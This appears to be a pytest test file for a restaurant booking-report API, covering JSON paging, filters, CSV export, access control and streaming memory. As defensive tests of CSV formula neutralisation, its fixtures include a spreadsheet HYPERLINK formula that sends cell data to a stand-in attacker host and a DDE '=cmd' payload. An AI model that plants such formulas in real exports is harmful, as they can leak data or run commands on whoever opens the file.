"""Booking reports: a date range of a restaurant's bookings with the day listing's filters, as JSON
pages or as CSV read back with Python's csv module; formula-looking cells neutralised; a
100,000-row export streamed from a server-side cursor with flat memory."""

from __future__ import annotations

import csv
import io
import os
import tracemalloc
import uuid
from datetime import date, datetime, time, timedelta
from time import perf_counter

import pytest
from sqlalchemy import select, text

from api.accounts.models import Role
from api.booking.models import Customer, Reservation
from api.extensions import db
from api.insight import reports
from tests.booking.helpers import NEW_YORK, build_restaurant, settle
from tests.conftest import bearer

DAY = date(2026, 3, 10)  # New York is on daylight time (-04:00) since 2026-03-08
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def url(restaurant, **query) -> str:
    params = "&".join(f"{key}={value}" for key, value in query.items())
    return f"/api/restaurants/{restaurant.id}/reports/bookings?{params}"


def add_booking(
    restaurant,
    day: date,
    wall: time,
    *,
    table: int = 1,
    name: str = "Alex",
    email: str | None = None,
    phone: str = "",
    status: str = "confirmed",
    party: int = 2,
) -> Reservation:
    """A reservation row as the booking service stores it (reports only read, so no occupancy claim)."""
    email = email or f"g-{uuid.uuid4().hex[:8]}@example.com"
    customer = db.session.scalar(select(Customer).where(Customer.email == email))
    if customer is None:
        customer = Customer(email=email, name=name, phone=phone)
        db.session.add(customer)
        db.session.flush()
    starts_at = datetime.combine(day, wall, tzinfo=NEW_YORK)
    reservation = Reservation(
        restaurant_id=restaurant.id,
        table_id=next(t.id for t in restaurant.tables if t.number == table),
        customer_id=customer.id,
        confirmation_code=uuid.uuid4().hex[:10].upper(),
        party_size=party,
        starts_at=starts_at,
        ends_at=starts_at + timedelta(minutes=90),
        service_date=day,
        status=status,
        source="web",
    )
    db.session.add(reservation)
    db.session.flush()
    return reservation


@pytest.fixture
def bistro(app):
    return build_restaurant(tables=[(4, 4)])


@pytest.fixture
def staff(make_user, bistro):
    return make_user(Role.STAFF, "host@bistro.example", restaurant_id=bistro.id)


@pytest.fixture
def booked(bistro):
    """Bookings on three days in range, one the day before and one the day after, one elsewhere."""
    other = build_restaurant(tables=[(1, 4)])
    rows = {
        "before": add_booking(bistro, DAY - timedelta(days=1), time(19, 0)),
        "first": add_booking(bistro, DAY, time(18, 0), table=2, name="Ada", email="ada@example.com"),
        "second": add_booking(bistro, DAY, time(19, 0), table=1, name=HYPERLINK, phone="+1 555 0100"),
        "third": add_booking(bistro, DAY, time(19, 0), table=3, name="Zoë @home", status="cancelled"),
        "fourth": add_booking(bistro, DAY + timedelta(days=2), time(19, 0), table=1, name="-minus", party=6),
        "after": add_booking(bistro, DAY + timedelta(days=3), time(19, 0)),
        "elsewhere": add_booking(other, DAY, time(19, 0), email="ada@example.com"),
    }
    settle()
    return rows


def codes(body) -> list[str]:
    return [item["confirmationCode"] for item in body["items"]]


def test_json_pages_hold_the_range_in_time_order(client, bistro, staff, booked):
    in_range = [booked[k].confirmation_code for k in ("first", "second", "third", "fourth")]
    response = client.get(url(bistro, startDate=DAY, endDate=DAY + timedelta(days=2)), headers=bearer(staff))
    assert response.status_code == 200, response.get_json()
    assert codes(response.get_json()) == in_range
    assert response.get_json()["pagination"]["total"] == 4
    page = client.get(
        url(bistro, startDate=DAY, endDate=DAY + timedelta(days=2), page=2, page_size=3), headers=bearer(staff)
    ).get_json()
    assert codes(page) == in_range[3:]
    assert page["pagination"] == {"page": 2, "pageSize": 3, "total": 4, "pages": 2, "nextPage": None, "prevPage": 1}
    item = page["items"][0]
    assert (item["tableNumber"], item["partySize"], item["name"]) == (1, 6, "-minus")


def test_the_day_listings_filters_apply_over_the_range(client, bistro, staff, booked):
    span = {"startDate": DAY - timedelta(days=1), "endDate": DAY + timedelta(days=3)}

    def report(**filters):
        response = client.get(url(bistro, **span, **filters), headers=bearer(staff))
        assert response.status_code == 200, response.get_json()
        return set(codes(response.get_json()))

    def of(*keys):
        return {booked[k].confirmation_code for k in keys}

    assert report(status="cancelled") == of("third")
    assert report(table=1) == of("before", "second", "fourth", "after")
    assert report(email="ADA@") == of("first")  # not the other restaurant's Ada
    assert report(slot="19:00") == of("before", "second", "third", "fourth", "after")  # that wall time, every day
    assert report(slot="2026-03-10T19:12:00-04:00") == of("second", "third")  # an instant: its one slot
    assert report(slot="18:00", table=2) == of("first")


def test_csv_reads_back_with_the_right_rows_and_neutralised_formulas(client, bistro, staff, booked):
    response = client.get(
        url(bistro, startDate=DAY, endDate=DAY + timedelta(days=2), format="csv"), headers=bearer(staff)
    )
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="bookings-{bistro.slug}-2026-03-10-2026-03-12.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8"))))
    assert list(rows[0]) == list(reports.CSV_HEADER)
    assert [row["confirmationCode"] for row in rows] == [
        booked[k].confirmation_code for k in ("first", "second", "third", "fourth")
    ]
    first, second, third, fourth = rows
    assert (first["name"], first["email"], first["table"], first["partySize"]) == ("Ada", "ada@example.com", "2", "2")
    assert (first["serviceDate"], first["startsAt"]) == ("2026-03-10", "2026-03-10T18:00:00-04:00")
    assert second["name"] == "'" + HYPERLINK  # text, not a formula
    assert second["phone"] == "'+1 555 0100"
    assert (third["name"], third["status"]) == ("Zoë @home", "cancelled")  # UTF-8; '@' only counts in front
    assert fourth["name"] == "'-minus"
    assert not any(cell.startswith(reports.FORMULA_TRIGGERS) for row in rows for cell in row.values())


def test_a_filtered_csv_and_an_empty_one(client, bistro, staff, booked):
    response = client.get(
        url(bistro, startDate=DAY, endDate=DAY, format="csv", status="cancelled"), headers=bearer(staff)
    )
    assert [row["confirmationCode"] for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))] == [
        booked["third"].confirmation_code
    ]
    empty = client.get(url(bistro, startDate="2027-01-01", endDate="2027-01-31", format="csv"), headers=bearer(staff))
    assert empty.get_data(as_text=True) == ",".join(reports.CSV_HEADER) + "\r\n"


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_bad_ranges_are_422_in_json_whatever_the_format(client, bistro, staff, fmt):
    cases = [
        ({"startDate": "2026-03-10", "endDate": "2026-03-09"}, "BAD_DATE_RANGE"),
        ({"startDate": "2026-01-01", "endDate": "2027-01-02"}, "BAD_DATE_RANGE"),  # 367 days
        ({"startDate": "2026-02-30", "endDate": "2026-03-09"}, "BAD_DATE"),
        ({"endDate": "2026-03-09"}, "BAD_DATE"),
        ({"startDate": "2026-03-01", "endDate": "2026-03-09", "slot": "25:00"}, "BAD_TIME"),
        ({"startDate": "2026-03-01", "endDate": "2026-03-09", "status": "lost"}, "VALIDATION_ERROR"),
        ({"startDate": "2026-03-01", "endDate": "2026-03-09", "table": "one"}, "VALIDATION_ERROR"),
    ]
    for query, code in cases:
        response = client.get(url(bistro, format=fmt, **query), headers=bearer(staff))
        assert response.status_code == 422, query
        assert response.content_type == "application/json"
        assert response.get_json()["code"] == code, query
    response = client.get(
        url(bistro, startDate="2026-01-01", endDate="2026-12-31", format="xml"), headers=bearer(staff)
    )
    assert (response.status_code, response.get_json()["code"]) == (422, "VALIDATION_ERROR")
    # a leap year's 366 days are one report
    response = client.get(url(bistro, startDate="2028-01-01", endDate="2028-12-31", format=fmt), headers=bearer(staff))
    response.get_data()  # read the stream to its end, inside this test's context
    assert response.status_code == 200


def test_only_the_restaurants_staff_and_admins_see_its_report(
    client, bistro, staff, admin, customer, make_user, booked
):
    query = {"startDate": DAY, "endDate": DAY}
    other_staff = make_user(Role.STAFF, "host@elsewhere.example", restaurant_id=build_restaurant(tables=[(1, 2)]).id)
    for user, status in ((staff, 200), (admin, 200), (customer, 403), (other_staff, 403)):
        for fmt in ("json", "csv"):
            response = client.get(url(bistro, format=fmt, **query), headers=bearer(user))
            response.get_data()  # read the stream to its end, inside this test's context
            assert response.status_code == status, (user.email, fmt)
    assert client.get(url(bistro, **query)).status_code == 401
    response = client.get(
        f"/api/restaurants/{uuid.uuid4()}/reports/bookings?startDate={DAY}&endDate={DAY}", headers=bearer(admin)
    )
    assert (response.status_code, response.get_json()["code"]) == (404, "RESTAURANT_NOT_FOUND")


ROWS = 100_000


def _insert_rows(restaurant, count: int) -> None:
    """`count` reservations over 300 days in one INSERT ... SELECT generate_series."""
    prefix = uuid.uuid4().hex[:3].upper()  # confirmation codes are unique across restaurants
    customer = Customer(email=f"bulk-{prefix.lower()}@example.com", name="=cmd|' /C calc'!A0", phone="+1 555 0100")
    db.session.add(customer)
    db.session.flush()
    # The app's 15 s per-statement limit is for requests; a shared test machine may need longer here.
    db.session.execute(text("SET LOCAL statement_timeout = 0"))
    db.session.execute(
        text(
            """
            INSERT INTO reservations (id, restaurant_id, table_id, customer_id, confirmation_code, party_size,
                                      starts_at, ends_at, service_date, status, source, special_requests,
                                      deposit_cents, deposit_paid, refund_policy, refund_cents)
            SELECT gen_random_uuid(), :restaurant, tables.ids[1 + n % array_length(tables.ids, 1)], :customer,
                   :prefix || lpad(n::text, 9, '0'), 2,
                   start, start + interval '90 minutes', (start AT TIME ZONE :tz)::date,
                   'completed', 'web', 'window seat, please', 0, false, '[]'::jsonb, 0
            FROM generate_series(0, :count - 1) AS n
            CROSS JOIN (SELECT array_agg(id ORDER BY number) AS ids FROM dining_tables
                        WHERE restaurant_id = :restaurant) AS tables
            CROSS JOIN LATERAL (SELECT (timestamp '2026-01-01 17:00' + (n % 300) * interval '1 day'
                                        + (n / 300 % 12) * interval '30 minutes') AT TIME ZONE :tz AS start) AS s
            """
        ),
        {
            "restaurant": restaurant.id,
            "customer": customer.id,
            "tz": restaurant.timezone,
            "count": count,
            "prefix": prefix,
        },
    )
    settle()


def _rss_bytes() -> int:
    with open("/proc/self/statm") as statm:
        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def _export(client, restaurant, user, *, trace: bool) -> dict[str, int]:
    """Stream the year's CSV through the WSGI iterator, keeping nothing. Measures the process's
    resident memory (which includes libpq's buffers) and, with `trace`, Python's heap peak
    (tracemalloc: exact, but it slows the export about fourfold)."""
    response = client.get(
        url(restaurant, startDate="2026-01-01", endDate="2026-12-31", format="csv"),
        headers=bearer(user),
        buffered=False,
    )
    assert response.status_code == 200
    started = perf_counter()
    rss_before = rss_peak = _rss_bytes()
    if trace:
        tracemalloc.start()
    size = lines = 0
    cursors: list[str] = []
    tail = b""
    try:
        for chunk in response.iter_encoded():
            size += len(chunk)
            lines += chunk.count(b"\r\n")
            tail = chunk[-200:]
            if not cursors and lines > 1:  # mid-stream: the rows come from a server-side cursor
                cursors = list(db.session.execute(text("SELECT name FROM pg_cursors")).scalars())
            rss_peak = max(rss_peak, _rss_bytes())
        python_peak = tracemalloc.get_traced_memory()[1] if trace else None
    finally:
        tracemalloc.stop()
        response.close()
    assert cursors, "no server-side cursor was open while the rows streamed"
    assert b"'=cmd|" in tail
    return {
        "rows": lines - 1,
        "csv_bytes": size,
        "rss_growth": rss_peak - rss_before,
        "python_peak": python_peak,
        "seconds": round(perf_counter() - started, 1),
    }


MB = 1024 * 1024


def test_a_100000_row_export_streams_with_flat_memory(client, bistro, admin, capsys):
    # REPORT_TRACEMALLOC=1 also traces the 100,000-row run (how docs/reports.md's figure was taken).
    trace_large = os.environ.get("REPORT_TRACEMALLOC") == "1"
    _insert_rows(bistro, ROWS)
    small = build_restaurant(tables=[(4, 4)])
    _insert_rows(small, ROWS // 10)
    ten_thousand = _export(client, small, admin, trace=True)
    hundred_thousand = _export(client, bistro, admin, trace=trace_large)
    with capsys.disabled():
        print(f"\n  CSV export: {ten_thousand}\n  CSV export: {hundred_thousand}")

    assert (ten_thousand["rows"], hundred_thousand["rows"]) == (ROWS // 10, ROWS)
    assert hundred_thousand["csv_bytes"] > 20 * MB
    # Python holds one batch at a time: a couple of MB, whatever the size of the report.
    assert ten_thousand["python_peak"] < 4 * MB
    # Ten times the rows and 20+ MB of CSV later, the process has not grown: nothing is buffered
    # (not the CSV, not the rows in Python, not the result in libpq).
    assert hundred_thousand["rss_growth"] < 8 * MB
    if trace_large:
        assert hundred_thousand["python_peak"] < 4 * MB
